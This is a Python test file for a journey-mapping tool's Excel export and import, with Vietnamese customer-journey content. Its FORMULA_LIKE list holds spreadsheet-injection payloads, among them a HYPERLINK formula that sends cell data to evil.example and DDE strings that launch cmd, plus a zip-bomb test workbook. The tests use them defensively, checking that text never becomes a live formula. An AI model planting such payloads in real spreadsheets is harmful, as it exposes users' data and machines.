from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from journeyscope.errors import DocumentError
from journeyscope.maps.api import new_from_template
from journeyscope.maps.excel import export_xlsx, import_xlsx
from journeyscope.maps.io import to_plain
from journeyscope.maps.model import Item, JourneyMap
from journeyscope.maps.text import Localized
from tests.conftest import template_ids


@pytest.mark.parametrize("template", template_ids())
@pytest.mark.parametrize("lang", ["vi", None])
def test_round_trip_is_lossless(tmp_path: Path, template: str, lang: str | None) -> None:
    m = new_from_template(template, lang)
    path = tmp_path / "map.xlsx"
    path.write_bytes(export_xlsx(m))
    assert import_xlsx(path) == m


def test_sheet_looks_like_the_articles_grid(tmp_path: Path) -> None:
    path = tmp_path / "map.xlsx"
    path.write_bytes(export_xlsx(new_from_template("retail-current-state")))
    wb = load_workbook(path)
    assert wb.sheetnames[:2] == ["Map (en)", "Map (vi)"]
    ws = wb["Map (vi)"]
    assert [ws.cell(5, c).value for c in range(3, 8)] == [
        "Nhận biết",
        "Quan tâm & So sánh",
        "Quyết định",
        "Giao hàng & Sử dụng",
        "Trung thành & Ủng hộ",
    ]
    rows = {ws.cell(r, 2).value: r for r in range(6, ws.max_row + 1)}
    assert "[zalo] Thông báo ZNS cập nhật đơn" in ws.cell(rows["Điểm chạm"], 6).value
    assert (
        ws.cell(rows["Cảm xúc: Chị Lan, nhân viên văn phòng bận rộn"], 6).value
        == "-2 · Bực vì giao trễ"
    )


def test_edited_cells_are_read_back(tmp_path: Path) -> None:
    path = tmp_path / "map.xlsx"
    path.write_bytes(export_xlsx(new_from_template("retail-current-state", "vi")))
    wb = load_workbook(path)
    ws = wb["Map"]
    rows = {ws.cell(r, 2).value: r for r in range(6, ws.max_row + 1)}
    ws.cell(rows["Điểm chạm"], 3).value = "[shopee] Livestream Shopee #process\nBiển quảng cáo"
    ws.cell(rows["Cảm xúc: Chị Lan, nhân viên văn phòng bận rộn"], 3).value = "-1.5 · Chán"
    ws.cell(5, 3).value = "Biết đến"
    wb.save(path)
    m = import_xlsx(path)
    assert m.stages[0].name == "Biết đến"
    touch = next(lane for lane in m.lanes if lane.id == "touchpoints")
    assert touch.cells["awareness"] == [
        Item(text="Livestream Shopee", channel="shopee", tags=["process"]),
        "Biển quảng cáo",
    ]
    lan = next(c for c in m.emotions if c.persona == "lan-office-worker")
    point = lan.points["awareness"]
    assert not isinstance(point, float) and point.score == -1.5 and point.note == "Chán"


def test_bilingual_edit_keeps_both_languages(tmp_path: Path) -> None:
    path = tmp_path / "map.xlsx"
    path.write_bytes(export_xlsx(new_from_template("action-camera-journey")))
    wb = load_workbook(path)
    wb["Map (en)"].cell(6, 3).value = "Googles it"
    wb["Map (vi)"].cell(6, 3).value = "Tìm trên Google"
    wb.save(path)
    actions = next(lane for lane in import_xlsx(path).lanes if lane.id == "actions")
    assert actions.cells["product_awareness"] == [Localized(en="Googles it", vi="Tìm trên Google")]


def test_hand_made_grid_imports(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    ws.append(["Hành trình mua sắm"])
    ws.append([None, "Nhận biết", "Cân nhắc", "Mua hàng"])
    ws.append(["Điểm chạm", "[facebook] Quảng cáo", "Website", "[store] Cửa hàng"])
    ws.append(["Điểm đau", None, "Giá khác nhau", None])
    ws.append(["Cảm xúc", 1, -1, 2])
    path = tmp_path / "grid.xlsx"
    wb.save(path)
    m = import_xlsx(path)
    assert [s.id for s in m.stages] == ["nhan-biet", "can-nhac", "mua-hang"]
    assert [lane.kind for lane in m.lanes] == ["touchpoints", "pain_points", "emotions"]
    assert m.emotions[0].points == {"nhan-biet": 1.0, "can-nhac": -1.0, "mua-hang": 2.0}


def test_a_workbook_that_is_not_a_map(tmp_path: Path) -> None:
    wb = Workbook()
    wb.active.append(["just one cell"])
    path = tmp_path / "other.xlsx"
    wb.save(path)
    with pytest.raises(DocumentError, match="not a journey map"):
        import_xlsx(path)
    junk = tmp_path / "junk.xlsx"
    junk.write_text("not a zip", encoding="utf-8")
    with pytest.raises(DocumentError, match=r"cannot open it as \.xlsx"):
        import_xlsx(junk)


FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+84903123456",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=already quoted by the user",
    "'plain text after a quote",
]


def _with_texts(texts: list[str]) -> JourneyMap:
    data = to_plain(new_from_template("retail-current-state"))
    data["title"] = {"en": texts[0], "vi": texts[1]}
    data["description"] = texts[2]
    data["stages"][0]["name"] = texts[3]
    first = data["stages"][0]["id"]
    data["lanes"][0]["cells"][first] = texts
    data["lanes"][1]["cells"][first] = [{"text": t, "channel": "zalo"} for t in texts]
    data["emotions"][0]["points"][first] = {"score": -1.5, "note": texts[0]}
    return JourneyMap.model_validate(data)


def test_user_text_is_never_a_formula_and_comes_back_exactly(tmp_path: Path) -> None:
    m = _with_texts(FORMULA_LIKE)
    path = tmp_path / "map.xlsx"
    path.write_bytes(export_xlsx(m))
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[0] in "=+-@\t\r'＝"]
    assert len(risky) >= len(FORMULA_LIKE)
    assert all(c.quotePrefix for c in risky), "Excel must keep showing them as text"
    assert import_xlsx(path) == m


def test_an_edited_grid_keeps_leading_spaces_tabs_and_quotes(tmp_path: Path) -> None:
    path = tmp_path / "map.xlsx"
    path.write_bytes(export_xlsx(_with_texts(FORMULA_LIKE)))
    wb = load_workbook(path)
    ws = wb["Map (en)"]
    rows = {ws.cell(r, 1).value: r for r in range(6, ws.max_row + 1)}
    ws.cell(rows["goals"], 4).value = "'=typed with a quote"  # an edit: read from the text
    wb.save(path)
    back = import_xlsx(path)
    goals = next(lane for lane in back.lanes if lane.id == "goals")
    assert goals.cells["awareness"] == FORMULA_LIKE
    assert goals.cells["interest"] == [
        Localized(en="'=typed with a quote", vi="Biết giá thật, size và chất liệu")
    ]


def test_a_big_structure_is_split_over_cells_excel_can_hold(tmp_path: Path) -> None:
    data = to_plain(new_from_template("retail-current-state"))
    first = data["stages"][0]["id"]
    data["lanes"][0]["cells"][first] = [f"ý kiến {i} " + "🙂" * 500 for i in range(40)]
    m = JourneyMap.model_validate(data)
    path = tmp_path / "map.xlsx"
    try:
        path.write_bytes(export_xlsx(m))
    except DocumentError as exc:  # the grid cell itself is over the limit
        assert "more than an Excel cell holds" in exc.message_en
        assert exc.location is not None and exc.location.field == f"lanes.goals.cells.{first}"
        data["lanes"][0]["cells"][first] = data["lanes"][0]["cells"][first][:20]
        m = JourneyMap.model_validate(data)
        path.write_bytes(export_xlsx(m))
    meta = load_workbook(path)["journeyscope"]
    pieces = [meta.cell(r, 1).value for r in range(2, meta.max_row + 1)]
    assert len(pieces) > 1
    assert all(len(str(p).encode("utf-16-le")) // 2 <= 32_767 for p in pieces)
    assert import_xlsx(path) == m


def test_text_excel_cannot_hold_is_refused_before_writing() -> None:
    data = to_plain(new_from_template("retail-current-state"))
    first = data["stages"][0]["id"]
    data["lanes"][0]["cells"][first] = ["x" * 9_000] * 4
    with pytest.raises(DocumentError) as info:
        export_xlsx(JourneyMap.model_validate(data))
    assert "32,767" in info.value.message_en and "32,767" in info.value.message_vi
    data["lanes"][0]["cells"][first] = ["bell \x07 character"]
    with pytest.raises(DocumentError, match="U\\+0007"):
        export_xlsx(JourneyMap.model_validate(data))


def test_a_workbook_too_large_for_a_map_is_refused_unread(tmp_path: Path) -> None:
    import zipfile

    from journeyscope.maps.excel import MAX_MAP_WORKBOOK_BYTES

    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (MAX_MAP_WORKBOOK_BYTES + 1))
    assert path.stat().st_size < 1_000_000
    with pytest.raises(DocumentError) as info:
        import_xlsx(path)
    assert "unpacks to" in info.value.message_en and info.value.message_vi


BOUND = """schema_version: 1
kind: journey_map
id: rt
type: current_state
title: {en: Bound, vi: Gắn dữ liệu}
stages:
- {id: awareness, name: Nhận biết}
- {id: purchase, name: Mua}
lanes:
- id: kpis
  kind: kpis
  cells:
    awareness:
    - metric: {name: stage_conversion, stage: awareness}
    - text: Drop
      metric: {name: touchpoint_dropoff, touchpoint: "web:/cart"}
    purchase:
    - Ghi chú
"""


def test_a_map_with_bound_cells_reads_back_as_written(tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    """The workbook shows the bound cells' values (here "not evaluated"), yet reads back
    as the map was written: found by a probe, the values became each cell's label."""
    source = tmp_path / "rt.yaml"
    source.write_text(BOUND, encoding="utf-8")
    book = tmp_path / "rt.xlsx"
    assert cli("map", "render", source, "-o", book).code == 0
    back = tmp_path / "back.yaml"
    assert cli("map", "import", book, "-o", back).code == 0
    r = cli("map", "diff", source, back, "--json")
    assert r.code == 0, r.err
    assert r.json()["changes"] == [], r.out
    # an edited cell is read as edited
    wb = load_workbook(book)
    sheet = wb[wb.sheetnames[0]]
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value == "Ghi chú":
                cell.value = "Ghi chú mới"
    wb.save(book)
    edited = tmp_path / "edited.yaml"
    assert cli("map", "import", book, "-o", edited).code == 0
    changes = cli("map", "diff", source, edited, "--json").json()["changes"]
    assert {c["path"] for c in changes} == {"lanes.kpis.purchase"}
    assert "Ghi chú mới" in {c["new"] for c in changes}


def _grid(ws: Any, title: str) -> None:
    ws.title = title
    ws.append(["Hành trình"])
    ws.append([None, "Nhận biết", "Mua hàng"])
    ws.append(["Điểm chạm", "Zalo OA", "Cửa hàng"])


def test_a_cover_sheet_before_the_map_is_passed_over_and_sheet_picks_one(tmp_path: Path) -> None:
    """Hand-made workbooks often open on an instructions sheet; the map is the first sheet
    laid out as one, or the one named."""
    wb = Workbook()
    wb.active.title = "Hướng dẫn"
    wb.active.append(["Điền bản đồ ở trang sau"])
    _grid(wb.create_sheet(), "Bản đồ")
    other = wb.create_sheet()
    _grid(other, "Khách sỉ")
    other.cell(2, 2).value = "Tìm nhà cung cấp"
    path = tmp_path / "maps.xlsx"
    wb.save(path)
    assert [s.name for s in import_xlsx(path).stages] == ["Nhận biết", "Mua hàng"]
    picked = import_xlsx(path, "Khách sỉ")
    assert [s.name for s in picked.stages] == ["Tìm nhà cung cấp", "Mua hàng"]
    with pytest.raises(DocumentError, match="no sheet named 'Khach'") as caught:
        import_xlsx(path, "Khach")
    assert "'Bản đồ'" in caught.value.message("en") and "các trang" in caught.value.message("vi")


def test_when_no_sheet_is_a_map_each_says_why(tmp_path: Path) -> None:
    wb = Workbook()
    wb.active.title = "Bìa"
    wb.active.append(["Công ty ABC"])
    lanes_missing = wb.create_sheet("Bản đồ")
    lanes_missing.append([None, "Nhận biết", "Mua hàng"])
    path = tmp_path / "none.xlsx"
    wb.save(path)
    with pytest.raises(DocumentError) as caught:
        import_xlsx(path)
    text = caught.value.message("en")
    assert "'Bìa': no row with two or more stage names" in text
    assert "'Bản đồ': there are stage names but no lane rows" in text


def test_an_exported_workbook_is_read_whole_and_refuses_sheet(tmp_path: Path) -> None:
    path = tmp_path / "map.xlsx"
    path.write_bytes(export_xlsx(new_from_template("action-camera-journey")))
    with pytest.raises(DocumentError, match="exported by JourneyScope") as caught:
        import_xlsx(path, "Map (en)")
    assert caught.value.hint("vi") == "bỏ --sheet"


def test_an_empty_text_formula_result_is_a_value(tmp_path: Path) -> None:
    """Excel saves ``=IF(…, "")`` with an empty text value: calculated, not missing."""
    wb = Workbook()
    _grid(wb.active, "Map")
    path = tmp_path / "empty-text.xlsx"
    wb.save(path)
    import zipfile

    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    cell = b'<c r="D3" t="str"><f>IF(B3="x","y","")</f><v></v></c>'
    files[sheet] = files[sheet].replace(b"</row></sheetData>", cell + b"</row></sheetData>")
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    assert [s.name for s in import_xlsx(path).stages] == ["Nhận biết", "Mua hàng"]


def test_formulas_never_calculated_are_refused_not_dropped(tmp_path: Path) -> None:
    """A workbook written by a script keeps formulas without their values: read for values,
    the cells are empty, and the map would lose them without a word."""
    wb = Workbook()
    _grid(wb.active, "Map")
    wb.active.cell(3, 3).value = '=CONCAT("Cửa ", "hàng")'
    _grid(wb.create_sheet(), "Map 2")  # a later map-like sheet is no way around it
    path = tmp_path / "formulas.xlsx"
    wb.save(path)  # openpyxl saves no calculated value
    with pytest.raises(DocumentError, match=r"1 cell\(s\) hold a formula .*\(C3\)") as caught:
        import_xlsx(path)
    assert "LibreOffice" in (caught.value.hint("en") or "")

    exported = tmp_path / "exported.xlsx"  # an exported workbook a script then edited
    exported.write_bytes(export_xlsx(new_from_template("action-camera-journey")))
    book = load_workbook(exported)
    book["Map (en)"].cell(6, 3).value = '=CONCAT("Googles ", "it")'
    book.save(exported)
    with pytest.raises(DocumentError, match=r"never calculated \(C6\)"):
        import_xlsx(exported)
